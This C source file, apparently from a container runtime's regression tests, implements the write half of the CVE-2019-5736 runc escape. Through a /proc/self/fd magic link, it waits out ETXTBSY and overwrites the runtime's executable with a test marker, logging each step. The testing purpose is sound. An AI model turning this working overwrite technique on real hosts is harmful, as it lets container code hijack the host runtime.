/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The CVE-2019-5736 attack, second half (see exe_interp.c for the first).
 *
 *   overwrite write LABEL FD ROLE
 *
 * FD is a handle on the runtime's executable, taken through /proc/self/exe or /proc/PID/exe
 * while the runtime ran inside the container. This waits until nobody executes that file any
 * more (open for writing fails with ETXTBSY until then), reopens it for writing through the
 * magic link and writes a marker over its first bytes. Every step is appended to
 * /attack/report, so the test can tell "refused" from "never tried". ROLE "parent" (the
 * container's pid 1) waits for the other writer before it exits, so that the container
 * outlives both attempts.
 *
 * Built statically: it runs inside a busybox image with no libc of its own. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define REPORT "/attack/report"
#define MARKER "OVERWRITTEN-BY-CVE-2019-5736-TEST\n"
#define WAIT_MS 10000

static void report(const char *fmt, ...)
{
  char line[512];
  va_list ap;
  int fd, n;

  va_start(ap, fmt);
  n = vsnprintf(line, sizeof(line), fmt, ap);
  va_end(ap);
  if (n < 0)
    return;
  fd = open(REPORT, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0)
    return;
  if (write(fd, line, strlen(line)) < 0) {
    /* nothing better to do */
  }
  close(fd);
}

static const char *errname(int e)
{
  const char *name = strerrorname_np(e);

  return name ? name : "?";
}

static void sleep_ms(long ms)
{
  struct timespec ts = {.tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000L};

  while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
    ;
}

static int attack(const char *label, int fd)
{
  char magic[64], target[4096];
  ssize_t n;
  int wfd = -1, waited;

  snprintf(magic, sizeof(magic), "/proc/self/fd/%d", fd);
  n = readlink(magic, target, sizeof(target) - 1);
  target[n > 0 ? n : 0] = '\0';
  report("%s: holding the runtime's executable: %s\n", label, n > 0 ? target : "?");

  for (waited = 0; waited < WAIT_MS; waited += 20) {
    wfd = open(magic, O_WRONLY | O_CLOEXEC);
    if (wfd >= 0 || errno != ETXTBSY)
      break;
    sleep_ms(20);
  }
  if (wfd < 0) {
    report("%s: open for writing: %s\n", label, errname(errno));
    return 1;
  }
  report("%s: open for writing: ok after %d ms\n", label, waited);
  if (pwrite(wfd, MARKER, strlen(MARKER), 0) < 0) {
    report("%s: write: %s\n", label, errname(errno));
    close(wfd);
    return 1;
  }
  report("%s: write: ok (the runtime's executable was overwritten)\n", label);
  close(wfd);
  return 0;
}

int main(int argc, char **argv)
{
  int rc;

  if (argc != 5 || strcmp(argv[1], "write") != 0) {
    fprintf(stderr, "usage: overwrite write LABEL FD parent|child\n");
    return 2;
  }
  rc = attack(argv[2], atoi(argv[3]));
  if (strcmp(argv[4], "parent") == 0)
    while (wait(NULL) > 0 || errno == EINTR)
      ;
  report("%s: done\n", argv[2]);
  return rc;
}
